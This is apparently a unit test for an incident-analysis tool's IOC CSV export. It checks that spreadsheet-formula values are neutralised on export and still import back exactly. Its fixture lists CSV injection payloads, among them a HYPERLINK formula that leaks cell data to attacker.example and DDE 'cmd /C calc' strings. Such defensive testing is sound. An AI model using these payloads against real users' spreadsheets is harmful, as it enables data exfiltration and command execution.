// IOC CSV export (docs/architecture.md, "Display integrity"): formula-like values and labels are neutralised by
// the shared writer, and the export still imports back exactly.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { addIoc, listIocs } from '../../electron/analysis/ioc.ts';
import { exportIocs, importIocs, parseCsv } from '../../electron/analysis/ioc-formats.ts';
import { caseWith } from './support.ts';

const HOSTILE = [
  { value: '=HYPERLINK("http://attacker.example/?"&A1,"click")', label: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
  { value: '-2+3+cmd|\' /C calc\'!A0', label: '+label' },
  { value: "'=already neutralised by someone", label: "'plain apostrophe" },
  { value: '@evil-agent', label: null },
];

test('IOC CSV export neutralises formula cells and round-trips exactly', async () => {
  const src = await caseWith([]);
  const dst = await caseWith([]);
  try {
    for (const h of HOSTILE) addIoc(src.store, 'E', { type: 'user-agent', value: h.value, label: h.label ?? undefined });
    const body = exportIocs(src.store, 'csv').body;
    const rows = parseCsv(body).slice(1);
    assert.equal(rows.length, HOSTILE.length);
    for (const row of rows) {
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet would run: ${cell}`);
    }
    const cellOf = (v: string) => rows.find((r) => r[1].endsWith(v.slice(1)) && r[1].length === v.length + 1);
    assert.ok(cellOf(HOSTILE[0].value), 'the = value is written with one apostrophe in front');
    assert.equal(rows.find((r) => r[1].includes('already'))![1], "''=already neutralised by someone");
    assert.equal(rows.find((r) => r[1].includes('already'))![3], "'plain apostrophe", 'an apostrophe not before a formula character is left alone');

    const r = importIocs(dst.store, 'F', body, 'csv');
    assert.deepEqual(r.skipped, []);
    const key = (i: { type: string; value: string; label: string | null }) => `${i.type}|${i.value}|${i.label}`;
    assert.deepEqual(listIocs(dst.store).map(key).sort(), listIocs(src.store).map(key).sort());
    assert.deepEqual(listIocs(dst.store).map((i) => i.value).sort(), HOSTILE.map((h) => h.value).sort());
  } finally {
    src.cleanup();
    dst.cleanup();
  }
});
